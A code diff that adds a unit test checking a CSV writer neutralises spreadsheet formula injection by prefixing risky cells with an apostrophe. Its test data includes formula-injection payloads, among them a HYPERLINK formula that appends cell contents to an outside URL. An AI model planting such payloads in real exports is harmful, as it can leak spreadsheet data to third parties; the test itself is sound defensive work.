@@ -246,3 +246,23 @@ def test_each_query_is_written_as_a_csv_with_its_header(results, out_dir):
     assert lines[0] == "client,month,avg_duration_seconds,prev_month_avg_seconds,pct_change"
     assert lines[1] == "acme,2024-05,3450.0,,"
     assert (queries_dir / "top_products.csv").read_text().splitlines()[1] == "latte,4,12.00"
+
+
+def test_csv_cells_are_valid_csv_and_text_never_opens_as_a_spreadsheet_formula(tmp_path):
+    # Product, store, client and job names are stored as sent; a spreadsheet runs a cell starting with = + - @
+    # (or a tab or carriage return before one) as a formula. Such text gets a leading apostrophe; numbers,
+    # negative ones included, and every other text are written as they are, quoted where CSV needs it.
+    import csv
+
+    from lakewatch.local.queries import QueryResult, write_csv
+
+    formulas = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    plain = ["a,b", 'say "hi"', "two\nlines", " trailing ", "\u202eevil\u200b", "50%_off", "é😀", "x=1", ""]
+    rows = [(text, -1.5) for text in (*formulas, *plain)] + [(None, Decimal("-0.25"))]
+    path = tmp_path / "q.csv"
+    write_csv(QueryResult("q", ("name", "value"), rows), path)
+    with path.open(encoding="utf-8", newline="") as handle:
+        header, *cells = list(csv.reader(handle))
+    assert header == ["name", "value"]
+    assert [cell[0] for cell in cells] == [*("'" + text for text in formulas), *plain, ""]
+    assert [cell[1] for cell in cells] == ["-1.5"] * (len(formulas) + len(plain)) + ["-0.25"]
